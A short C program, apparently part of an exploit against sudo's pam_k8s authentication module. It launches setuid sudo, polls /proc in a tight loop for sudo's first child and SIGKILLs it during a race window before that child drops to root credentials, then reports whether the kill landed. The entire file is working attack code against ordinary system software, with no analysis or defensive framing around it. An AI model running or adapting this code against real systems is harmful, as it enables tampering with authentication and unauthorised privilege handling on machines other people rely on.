/* killer PROG ARGS...: run PROG (setuid sudo, our real uid) and SIGKILL its
 * first child the instant it appears: the vfork'd pam_k8s child still has
 * sudo's credentials (real uid ours) until its setresuid(0,0,0). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>
int main(int argc, char **argv) {
	char path[64], buf[256]; int fd, st, r = -2; ssize_t n; pid_t p = fork();
	if (p == 0) { execv(argv[1], argv + 1); _exit(127); }
	snprintf(path, sizeof path, "/proc/%d/task/%d/children", p, p);
	for (long i = 0; i < 5000000; i++) {
		fd = open(path, O_RDONLY); if (fd < 0) break;
		n = read(fd, buf, sizeof buf - 1); close(fd);
		if (n > 0) { buf[n] = 0; r = kill(atoi(buf), SIGKILL); break; }
	}
	waitpid(p, &st, 0);
	fprintf(stderr, "[killer] kill: %s\n", r == 0 ? "delivered" : r == -2 ? "no child seen" : "EPERM (already root)");
	return WIFEXITED(st) ? WEXITSTATUS(st) : 128 + WTERMSIG(st);
}
